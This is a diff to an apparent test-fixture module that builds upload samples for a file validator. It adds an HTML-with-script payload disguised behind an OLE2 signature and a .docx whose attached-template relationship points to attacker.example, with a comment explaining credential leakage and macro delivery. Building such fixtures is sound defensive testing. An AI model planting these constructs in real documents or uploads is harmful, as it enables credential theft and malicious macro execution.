@@ -47,12 +47,19 @@ export function consentPdf(): UploadFile {
   return { fileName: 'consent.pdf', bytes: corpus.pdf(), contentType: 'application/pdf' };
 }
 
+const OLE2_SIGNATURE = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
+
 /** The start of a Word 97–2003 file: the OLE2 compound file signature and a header's worth of bytes. */
 export function wordDoc(): Buffer {
   const bytes = Buffer.alloc(1536, 0);
-  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(bytes);
+  OLE2_SIGNATURE.copy(bytes);
   bytes.write('Signed consent', 512, 'utf16le');
   return bytes;
+}
+
+/** A page of HTML with a script behind the eight bytes of an OLE2 signature: what a `.doc` check by magic accepts. */
+export function htmlBehindOle2Signature(): Buffer {
+  return Buffer.concat([OLE2_SIGNATURE, corpus.html]);
 }
 
 const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
@@ -63,8 +70,23 @@ const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
 </Types>`;
 
 /** A minimal .docx as Word writes one: `[Content_Types].xml` first, then the package and the document. */
-export async function wordDocx({ withDocument = true }: { withDocument?: boolean } = {}): Promise<Buffer> {
+export async function wordDocx({
+  withDocument = true,
+  externalTemplate = false,
+}: { withDocument?: boolean; externalTemplate?: boolean } = {}): Promise<Buffer> {
   const zip = new JSZip();
+  if (externalTemplate) {
+    // Word fetches an attached template from its address when the file is opened (and sends the
+    // network credentials a share asks for); the template may bring macros.
+    zip.file(
+      'word/_rels/settings.xml.rels',
+      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>',
+    );
+    zip.file(
+      'word/settings.xml',
+      '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
+    );
+  }
   zip.file('[Content_Types].xml', CONTENT_TYPES);
   zip.file(
     '_rels/.rels',
